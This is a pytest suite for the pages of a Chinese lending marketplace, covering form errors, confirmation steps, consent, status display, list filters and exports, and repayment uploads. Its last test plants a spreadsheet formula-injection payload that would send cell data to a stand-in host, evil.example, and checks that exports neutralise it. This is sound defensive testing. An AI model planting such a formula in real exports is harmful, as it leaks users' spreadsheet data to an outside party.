"""The lending pages as their users meet them: a refused form keeps what was typed and says why
at the field; irreversible steps show what they will do before doing it; applying shows the
consent it gives and needs it ticked; the stepper, 已放款, and the enterprise spared the bank's
deadline; lists that filter, sort, page and export; the repayment upload's loans and template."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from creditbridge.access.service.users import actor_for_user
from creditbridge.core.actors import Actor, Role
from creditbridge.marketplace import service
from creditbridge.marketplace.domain import WAN_FEN
from creditbridge.marketplace.models import Application, Demand, Loan, Notification, Repayment
from web import conftest as web_fixtures
from web.conftest import LoggedIn
from web.helpers import csrf_from, table_rows

from .conftest import Market

app = web_fixtures.app
client = web_fixtures.client
login_as = web_fixtures.login_as

Login = Callable[..., LoggedIn]


def _post(client: TestClient, url: str, csrf: str, **data: str) -> str:
    response = client.post(url, data={"csrf_token": csrf, **data}, follow_redirects=False)
    assert response.status_code == 303, response.text[:3000]
    return response.headers["location"]


def _demand(session: Session, actor: Actor, **kw: Any) -> Demand:
    """A demand posted through the service: 50 万元 for 12 months on credit, but for ``kw``."""
    values: dict[str, Any] = {
        "amount_fen": 50 * WAN_FEN,
        "term_months": 12,
        "purpose": "采购原材料",
        "security_types": ["credit"],
        **kw,
    }
    return service.post_demand(session, actor, **values)


def _applied(client: TestClient, session: Session, market: Market, login_as: Login) -> Application:
    """An enterprise logged in through the pages with a demand and an application to the bank's
    credit product, made the way the pages make it (consent ticked)."""
    owner = login_as(Role.ENTERPRISE_USER)
    demand = _demand(session, actor_for_user(owner.user))
    _post(
        client,
        f"/market/demands/{demand.id}/apply/{market.credit_product.id}",
        owner.csrf,
        consent="yes",
    )
    return session.scalars(select(Application).where(Application.demand_id == demand.id)).one()


def _under_review(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> tuple[Application, LoggedIn]:
    application = _applied(client, session, market, login_as)
    officer = login_as(Role.INSTITUTION_OFFICER, institution_id=market.bank.id)
    url = f"/market/applications/{application.id}"
    _post(client, f"{url}/accept", officer.csrf)
    _post(client, f"{url}/review", officer.csrf)
    return application, officer


# --- Forms keep their input ------------------------------------------------------------------


def test_a_refused_demand_keeps_what_was_typed_and_says_why_at_the_field(
    client: TestClient, market: Market, login_as: Login
) -> None:
    login_as(Role.ENTERPRISE_USER)
    form = client.get("/market/demands/new")
    refused = client.post(
        "/market/demands",
        data={
            "csrf_token": csrf_from(form.text),
            "amount_wan": "五十",
            "term_months": "18",
            "purpose": "购置生产设备",
            "security_types": ["credit", "guarantee"],
            "mode": "pool",
        },
    )
    assert refused.status_code == 422
    assert 'data-testid="demand-form"' in refused.text
    assert 'value="五十"' in refused.text
    assert 'value="购置生产设备"' in refused.text
    assert re.search(r'value="pool" id="d-mode-pool" checked', refused.text)
    assert re.search(r'value="guarantee" id="d-sec-guarantee" checked', refused.text)
    error = re.search(r'data-testid="error-amount">([^<]+)<', refused.text)
    assert error
    assert "金额" in error.group(1)
    assert "amount_wan" not in error.group(1)


def test_an_approval_outside_the_product_answers_the_form_with_the_input_kept(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    application, officer = _under_review(client, session, market, login_as)
    url = f"/market/applications/{application.id}"
    refused = client.post(
        f"{url}/approve",
        data={
            "csrf_token": officer.csrf,
            "amount_wan": "40",
            "rate_pct": "29.5",
            "term_months": "12",
        },
    )
    assert refused.status_code == 422
    assert 'data-testid="approve-form"' in refused.text
    assert 'value="29.5"' in refused.text
    message = re.search(r'data-testid="error-rate_bp">([^<]+)<', refused.text)
    assert message
    assert "利率" in message.group(1)
    assert 'data-testid="refusal"' in refused.text
    assert "CB-MARKET-OUTSIDE-PRODUCT" in refused.text
    session.refresh(application)
    assert application.status == "under_review"
    assert application.approved_amount_fen is None


def test_a_mistyped_rate_goes_back_to_the_application_before_any_confirmation(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    application, _ = _under_review(client, session, market, login_as)
    url = f"/market/applications/{application.id}/confirm/approve"
    back = client.get(url, params={"amount_wan": "40", "rate_pct": "四点二", "term_months": "12"})
    assert back.status_code == 422
    assert 'value="四点二"' in back.text
    assert 'data-testid="error-rate_bp"' in back.text
    assert 'data-testid="confirm-page"' not in back.text


def test_a_disbursement_above_the_approval_is_refused_on_the_page_and_writes_nothing(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    application, officer = _under_review(client, session, market, login_as)
    url = f"/market/applications/{application.id}"
    _post(client, f"{url}/approve", officer.csrf, amount_wan="40", rate_pct="4.20")
    refused = client.post(f"{url}/disburse", data={"csrf_token": officer.csrf, "amount_wan": "45"})
    assert refused.status_code == 409
    assert 'value="45"' in refused.text
    assert 'data-testid="error-amount"' in refused.text
    assert 'data-testid="disburse-form"' in refused.text
    session.refresh(application)
    assert application.status == "approved"
    assert session.scalars(select(Loan)).first() is None


def test_a_rejection_without_a_reason_is_asked_for_at_the_field(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    application, officer = _under_review(client, session, market, login_as)
    url = f"/market/applications/{application.id}"
    asked = client.get(f"{url}/confirm/reject", params={"reason": "  "})
    assert asked.status_code == 422
    assert 'data-testid="error-reason"' in asked.text
    posted = client.post(f"{url}/reject", data={"csrf_token": officer.csrf, "reason": ""})
    assert posted.status_code == 422
    assert 'data-testid="error-reason"' in posted.text
    session.refresh(application)
    assert application.status == "under_review"


# --- Confirmations ---------------------------------------------------------------------------


def test_each_irreversible_step_shows_what_it_will_do_before_it_is_done(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    application = _applied(client, session, market, login_as)
    officer = login_as(Role.INSTITUTION_OFFICER, institution_id=market.bank.id)
    url = f"/market/applications/{application.id}"
    page = client.get(url)
    assert f'href="{url}/confirm/accept"' in page.text
    confirm = client.get(f"{url}/confirm/accept")
    assert confirm.status_code == 200
    assert 'data-move="accept"' in confirm.text
    assert "其他机构不再收到派单" in confirm.text
    assert f'action="{url}/accept"' in confirm.text
    session.refresh(application)
    assert application.status == "submitted"  # looking at the confirmation writes nothing
    _post(client, f"{url}/accept", csrf_from(confirm.text))
    _post(client, f"{url}/review", officer.csrf)
    terms = client.get(
        f"{url}/confirm/approve",
        params={"amount_wan": "40", "rate_pct": "4.20", "term_months": "12"},
    )
    assert terms.status_code == 200
    assert "40.00万元 · 4.20% · 12个月" in terms.text
    for name, value in (("amount_wan", "40"), ("rate_pct", "4.20"), ("term_months", "12")):
        assert f'name="{name}" value="{value}"' in terms.text
    _post(client, f"{url}/approve", csrf_from(terms.text), amount_wan="40", rate_pct="4.20")
    payout = client.get(f"{url}/confirm/disburse", params={"amount_wan": "40"})
    assert "生成贷款记录" in payout.text
    _post(client, f"{url}/disburse", csrf_from(payout.text), amount_wan="40")
    session.refresh(application)
    assert application.status == "disbursed"


def test_the_enterprise_confirms_a_withdrawal(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    application = _applied(client, session, market, login_as)
    url = f"/market/applications/{application.id}"
    assert f'href="{url}/withdraw"' in client.get(url).text
    confirm = client.get(f"{url}/withdraw")
    assert 'data-move="withdraw"' in confirm.text
    assert "不能恢复" in confirm.text
    _post(client, f"{url}/withdraw", csrf_from(confirm.text))
    session.refresh(application)
    assert application.status == "withdrawn"


# --- Consent an enterprise understands -------------------------------------------------------


def test_applying_shows_the_consent_and_needs_it_ticked(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    owner = login_as(Role.ENTERPRISE_USER)
    demand = _demand(session, actor_for_user(owner.user))
    url = f"/market/demands/{demand.id}/apply/{market.credit_product.id}"
    assert f'href="{url}"' in client.get(f"/market/demands/{demand.id}").text
    page = client.get(url)
    assert page.status_code == 200
    terms = page.text
    assert market.bank.name in terms
    assert "贷款申请审查" in terms
    assert f"{service.CONSENT_DAYS} 天" in terms
    assert f"{service.CONSENT_USES} 次" in terms
    assert 'data-testid="consent-categories"' in terms
    refused = client.post(url, data={"csrf_token": owner.csrf})
    assert refused.status_code == 422
    assert re.search(r'data-testid="error-consent">请勾选同意授权', refused.text)
    assert session.scalars(select(Application)).first() is None
    _post(client, url, owner.csrf, consent="yes")
    application = session.scalars(select(Application)).one()
    assert application.consent_id is not None


# --- Stepper, 已放款, the bank's deadline -------------------------------------------------------


def test_a_demand_that_ended_in_a_loan_reads_lent_and_the_stepper_is_complete(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    application, officer = _under_review(client, session, market, login_as)
    url = f"/market/applications/{application.id}"
    reviewing = client.get(url)
    assert re.search(r'data-testid="stepper" data-index="2" data-stopped="no"', reviewing.text)
    _post(client, f"{url}/approve", officer.csrf, amount_wan="40", rate_pct="4.20")
    _post(client, f"{url}/disburse", officer.csrf, amount_wan="40")
    done = client.get(url)
    assert re.findall(r'data-step="(\w+)" data-state="(\w+)"', done.text) == [
        ("submitted", "done"),
        ("accepted", "done"),
        ("under_review", "done"),
        ("approved", "done"),
        ("disbursed", "done"),
    ]
    demand = session.get(Demand, application.demand_id)
    assert demand is not None
    assert demand.status == "closed"


def test_the_enterprise_sees_lent_and_not_the_banks_deadline(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    owner = login_as(Role.ENTERPRISE_USER)
    actor = actor_for_user(owner.user)
    demand = _demand(session, actor)
    application = service.apply(
        session, actor, demand_id=demand.id, product_id=market.credit_product.id
    )
    page = client.get(f"/market/applications/{application.id}")
    assert 'data-testid="respond-by"' not in page.text
    told = session.scalars(
        select(Notification).where(
            Notification.recipient_kind == "subject",
            Notification.application_id == application.id,
        )
    ).all()
    assert told
    assert all("前响应" not in n.message for n in told)
    bank_told = session.scalars(
        select(Notification).where(
            Notification.recipient_kind == "institution",
            Notification.application_id == application.id,
        )
    ).all()
    assert any("前响应" in n.message for n in bank_told)
    service.accept(session, market.officer, application_id=application.id)
    service.start_review(session, market.officer, application_id=application.id)
    service.approve(
        session, market.officer, application_id=application.id, amount_fen=40 * WAN_FEN, rate_bp=420
    )
    service.disburse(
        session, market.officer, application_id=application.id, amount_fen=40 * WAN_FEN
    )
    mine = client.get("/market/demands")
    row = re.search(rf'data-demand-id="{demand.id}".*?</tr>', mine.text, re.S)
    assert row
    assert 'data-status="lent"' in row.group(0)
    assert "已放款" in row.group(0)
    assert "已关闭" not in row.group(0)
    detail = client.get(f"/market/demands/{demand.id}")
    assert re.search(r'data-testid="demand-status" data-status="lent">已放款', detail.text)
    lent_only = client.get("/market/demands", params={"status": "lent"})
    assert f'data-demand-id="{demand.id}"' in lent_only.text


# --- Lists that work -------------------------------------------------------------------------


def _pool_demand(session: Session, market: Market, **kw: Any) -> Demand:
    return _demand(session, market.owner, **{"purpose": "抢单池测试", "mode": "pool", **kw})


def test_the_open_pool_shows_region_industry_and_grade_and_filters_on_them(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    hefei = _pool_demand(session, market)
    wuhu = _demand(
        session, market.other_owner, amount_fen=300 * WAN_FEN, purpose="芜湖需求", mode="pool"
    )
    login_as(Role.INSTITUTION_OFFICER, institution_id=market.bank.id)
    page = client.get("/market/pool")
    assert page.status_code == 200
    rows = table_rows(page.text, "pool")
    assert {r[0] for r in rows} == {f"#{hefei.id}", f"#{wuhu.id}"}
    hefei_row = next(r for r in rows if r[0] == f"#{hefei.id}")
    assert "合肥" in " ".join(hefei_row) or "瑶海" in " ".join(hefei_row)
    assert any("制造业" in cell for cell in hefei_row)
    assert 'data-testid="pool-grade"' in page.text
    only_wuhu = client.get("/market/pool", params={"region": "340200"})
    assert [r[0] for r in table_rows(only_wuhu.text, "pool")] == [f"#{wuhu.id}"]
    big = client.get("/market/pool", params={"amount_min": "100"})
    assert [r[0] for r in table_rows(big.text, "pool")] == [f"#{wuhu.id}"]
    by_amount = client.get("/market/pool", params={"sort": "-amount"})
    assert [r[0] for r in table_rows(by_amount.text, "pool")] == [f"#{wuhu.id}", f"#{hefei.id}"]
    paged = client.get("/market/pool", params={"sort": "amount", "size": "1", "page": "2"})
    assert [r[0] for r in table_rows(paged.text, "pool")] == [f"#{wuhu.id}"]
    exported = client.get("/market/pool/export", params={"format": "csv", "region": "340200"})
    assert exported.status_code == 200
    lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert lines[0][:4] == ["编号", "企业", "地区", "行业"]
    assert [line[0] for line in lines[1:]] == [str(wuhu.id)]


def test_grabbing_asks_which_product_and_uses_it(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    demand = _pool_demand(session, market, security_types=["credit", "mortgage"])
    officer = login_as(Role.INSTITUTION_OFFICER, institution_id=market.bank.id)
    confirm = client.get(f"/market/demands/{demand.id}/grab")
    assert confirm.status_code == 200
    offered = set(re.findall(r'name="product_id" value="(\d+)"', confirm.text))
    assert str(market.credit_product.id) in offered
    assert str(market.other_credit_product.id) not in offered  # another bank's product
    assert "需求由本机构承接" in confirm.text
    chosen = market.mortgage_product if str(market.mortgage_product.id) in offered else None
    product = chosen or market.credit_product
    _post(client, f"/market/demands/{demand.id}/grab", officer.csrf, product_id=str(product.id))
    application = session.scalars(
        select(Application).where(Application.demand_id == demand.id)
    ).one()
    assert application.product_id == product.id
    again = client.post(
        f"/market/demands/{demand.id}/grab",
        data={"csrf_token": officer.csrf, "product_id": str(product.id)},
    )
    assert again.status_code == 409
    assert 'data-testid="refusal"' in again.text
    assert 'data-move="grab"' in again.text


def test_the_inbox_filters_sorts_marks_late_answers_and_exports(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    application = _applied(client, session, market, login_as)
    login_as(Role.INSTITUTION_OFFICER, institution_id=market.bank.id)
    inbox = client.get("/market/inbox")
    assert any(f"#{application.id}" in r[0] for r in table_rows(inbox.text, "waiting"))
    elsewhere = client.get("/market/inbox", params={"region": "340200"})
    assert 'data-testid="waiting-empty"' in elsewhere.text
    application.respond_by = application.created_at.date().replace(year=2020)
    session.flush()
    late = client.get("/market/inbox")
    assert re.search(rf'data-application-id="{application.id}" data-late="yes"', late.text)
    assert 'data-testid="overdue"' in late.text
    xlsx = client.get("/market/inbox/export", params={"format": "xlsx"})
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "编号"
    assert values[1][0] == application.id
    assert values[1][-1] == "是"


def _lent_to_logged_in_enterprise(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> Loan:
    """A loan of the bank to the enterprise now logged in, made through the services."""
    owner = actor_for_user(login_as(Role.ENTERPRISE_USER).user)
    demand = _demand(session, owner)
    app_ = service.apply(session, owner, demand_id=demand.id, product_id=market.credit_product.id)
    service.accept(session, market.officer, application_id=app_.id)
    service.start_review(session, market.officer, application_id=app_.id)
    service.approve(
        session, market.officer, application_id=app_.id, amount_fen=40 * WAN_FEN, rate_bp=420
    )
    return service.disburse(
        session, market.officer, application_id=app_.id, amount_fen=40 * WAN_FEN
    )


def test_my_loans_mark_overdue_filter_and_export(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    loan = _lent_to_logged_in_enterprise(client, session, market, login_as)
    page = client.get("/market/loans")
    assert re.search(r'data-testid="loan-row"[^>]*data-overdue="no"', page.text)
    loan.maturity_date = loan.disbursement_date.replace(year=loan.disbursement_date.year - 1)
    session.flush()
    late = client.get("/market/loans")
    assert re.search(r'data-testid="loan-row"[^>]*data-overdue="yes"', late.text)
    assert 'data-testid="overdue"' in late.text
    overdue_only = client.get("/market/loans", params={"status": "overdue"})
    assert 'data-testid="loan-row"' in overdue_only.text
    current_only = client.get("/market/loans", params={"status": "current"})
    assert 'data-testid="loan-row"' not in current_only.text
    exported = client.get("/market/loans/export", params={"format": "csv"})
    lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert lines[0][0] == "贷款编号"
    assert lines[1][0] == str(loan.id)
    assert lines[1][2] == "40.0"
    assert lines[1][8] == "逾期"


# --- Repayment upload ------------------------------------------------------------------------


def test_the_upload_page_lists_our_loans_and_its_template_uploads_clean(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    application, officer = _under_review(client, session, market, login_as)
    url = f"/market/applications/{application.id}"
    _post(client, f"{url}/approve", officer.csrf, amount_wan="40", rate_pct="4.20")
    _post(client, f"{url}/disburse", officer.csrf, amount_wan="40")
    loan = session.scalars(select(Loan)).one()
    page = client.get("/market/loans/upload")
    assert re.search(rf'data-testid="institution-loan" data-loan-id="{loan.id}"', page.text)
    template = client.get("/market/loans/upload/template", params={"format": "csv"})
    assert template.status_code == 200
    lines = list(csv.reader(io.StringIO(template.content.decode("utf-8-sig"))))
    assert lines[0] == ["贷款编号", "事件", "金额（元）", "日期"]
    assert lines[1][:2] == [str(loan.id), "还款"]
    xlsx = client.get("/market/loans/upload/template", params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    assert next(sheet.iter_rows(values_only=True)) == ("贷款编号", "事件", "金额（元）", "日期")
    done = client.post(
        "/market/loans/upload",
        data={"csrf_token": csrf_from(page.text)},
        files={"file": ("template.csv", template.content)},
    )
    assert done.status_code == 200, done.text[:2000]
    assert 'data-testid="upload-result"' in done.text
    assert session.scalars(select(Repayment)).one().amount_fen == 1_000_000
    bad = client.post(
        "/market/loans/upload",
        data={"csrf_token": csrf_from(page.text)},
        files={
            "file": (
                "bad.csv",
                "贷款编号,事件,金额（元）,日期\n999999,还款,1,2026-01-01\n".encode(),
            )
        },
    )
    assert bad.status_code == 422
    assert 'data-testid="upload-form"' in bad.text
    assert re.search(r'data-testid="refusal-issue">第 2 行：', bad.text)
    assert len(session.scalars(select(Repayment)).all()) == 1


def test_list_exports_carry_no_live_formula(
    client: TestClient, session: Session, market: Market, login_as: Login
) -> None:
    owner = login_as(Role.ENTERPRISE_USER)
    evil = '=HYPERLINK("http://evil.example/?x="&B2,"打开")'
    _demand(session, actor_for_user(owner.user), purpose=evil)
    as_csv = client.get("/market/demands/export", params={"format": "csv"})
    fields = [f for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))) for f in row]
    assert "'" + evil in fields
    as_xlsx = client.get("/market/demands/export", params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert evil in [cell.value for cell in cells]
